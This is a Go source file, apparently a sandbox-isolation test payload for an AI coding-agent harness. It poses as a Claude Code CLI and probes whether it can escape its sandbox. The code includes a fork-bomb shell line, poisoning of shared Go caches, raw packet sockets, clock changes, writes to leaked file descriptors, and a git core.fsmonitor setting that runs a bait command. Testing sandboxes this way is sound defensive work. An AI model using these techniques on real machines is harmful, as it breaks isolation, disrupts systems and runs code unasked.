package main

import (
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const (
	// payloadWord, as the first argument, makes this program the payload of an attack.
	payloadWord = "payload"
	// reportPath is the path for the payload's reports; ranReport is its report when it is done.
	reportPath = "/break/report"
	ranReport  = "ran"
)

// payload runs on the attacked machine: payload KIND URL ROLE. The role is that of a model CLI ("session"),
// of a verify command ("verify"), or of a command that another program is tricked into running ("bait").
func payload(args []string) {
	if len(args) < 3 {
		return
	}
	p := intruder{kind: args[0], url: args[1], role: args[2]}
	switch {
	case p.role == "session" && len(args) > 3 && args[3] == "--version":
		fmt.Println("9.9.9 (Claude Code)")
		return
	case p.role == "bait":
		p.report("its command ran")
		return
	}
	switch p.kind {
	case "caches":
		p.caches()
	case "nested":
		p.nested()
	case "packets":
		if fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0); err == nil {
			_ = unix.Close(fd)
			p.report("a " + p.role + " listens to all packets")
		}
	case "clock":
		var now unix.Timeval
		if unix.Gettimeofday(&now) == nil && unix.Settimeofday(&now) == nil {
			p.report("a " + p.role + " set the clock")
		}
	case "closed":
		if conn, err := net.Dial("udp", strings.TrimPrefix(p.url, "http://")); err == nil {
			_, _ = conn.Write([]byte(p.role))
			_ = conn.Close()
		}
	case "bomb":
		if p.role == "verify" {
			const split = `f() { [ $1 = 0 ] && exec sleep 10; f $(($1-1)) & f $(($1-1)) & wait; }; f 8`
			_ = exec.Command("sh", "-c", split).Run()
		}
	case "descriptors":
		for fd := 3; fd < 64; fd++ {
			if name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); err == nil && filepath.Base(name) == "canary" {
				_, _ = unix.Write(fd, []byte("broken"))
			}
		}
	}
	p.report(ranReport)
	if p.role == "session" {
		p.answer()
	}
}

// intruder is a running payload.
type intruder struct{ kind, url, role string }

func (p intruder) report(what string) {
	if response, err := http.Get(p.url + reportPath + "?what=" + url.QueryEscape(what)); err == nil {
		_ = response.Body.Close()
	}
}

// answer changes a file, so that there is something to verify, and prints the output of the CLI.
func (p intruder) answer() {
	_ = os.WriteFile("mended.txt", []byte(time.Now().String()+"\n"), 0o600)
	fmt.Println(`{"type":"assistant","message":{"model":"payload","content":[{"type":"text","text":"Mended."}]}}`)
	fmt.Println(`{"type":"result","subtype":"success","is_error":false,"terminal_reason":"completed","num_turns":1,"result":"Mended.",` +
		`"total_cost_usd":0.01,"usage":{"input_tokens":1,"output_tokens":1}}`)
}

// caches writes a file with its name into all caches that it finds. As a verify command it also searches them
// for other names.
func (p intruder) caches() {
	dir, err := os.Getwd()
	if err != nil {
		return
	}
	own := p.role + " of " + filepath.Base(dir)
	dirs := []string{os.Getenv("GOCACHE"), os.Getenv("GOMODCACHE")}
	if p.role == "verify" {
		for _, place := range dirs {
			found, _ := filepath.Glob(filepath.Join(place, "*"))
			for _, path := range found {
				if name := filepath.Base(path); strings.Contains(name, " of ") && name != own && !strings.HasSuffix(name, "-base") {
					p.report(own + " builds on what was written by " + name)
				}
			}
		}
	}
	_ = filepath.WalkDir(filepath.Join(filepath.Dir(dir), "cache"), func(path string, e fs.DirEntry, err error) error {
		if err == nil && e.IsDir() {
			dirs = append(dirs, path)
		}
		return nil
	})
	for _, place := range dirs {
		_ = os.MkdirAll(place, 0o700)
		_ = os.WriteFile(filepath.Join(place, own), nil, 0o600)
	}
}

// nested runs git in a directory, like a build that determines its version, and leaves a repository there
// that makes git run the bait.
func (p intruder) nested() {
	program, err := os.Executable()
	if err != nil || p.role != "verify" {
		return
	}
	_ = exec.Command("git", "-C", "lib", "status").Run()
	for _, args := range [][]string{{"init", "-q", "lib"},
		{"-C", "lib", "config", "core.fsmonitor", fmt.Sprintf("'%s' %s %s '%s' bait", program, payloadWord, p.kind, p.url)}} {
		_ = exec.Command("git", args...).Run()
	}
}
